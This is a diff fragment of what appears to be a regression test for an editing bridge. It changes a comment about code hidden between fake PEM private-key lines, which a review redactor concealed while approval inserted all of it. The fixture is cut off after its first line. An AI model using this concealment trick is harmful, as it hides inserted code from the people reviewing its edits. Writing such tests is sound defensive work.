@@ -379,7 +379,7 @@ async def test_a_bridge_that_does_not_answer_the_read_applies_nothing_and_says_w
     assert [m["method"] for m in comm.sent] == ["read"]  # no edit was sent
 
 
-# Issue 26: code between two comments that look like a PEM block. The review once showed three
+# Code between two comments that look like a PEM block. The review once showed three
 # of these five lines (the redactor swallowed the rest) while Allow once inserted all five.
 HIDDEN_CALL = (
     "# -----BEGIN PRIVATE KEY-----\n"
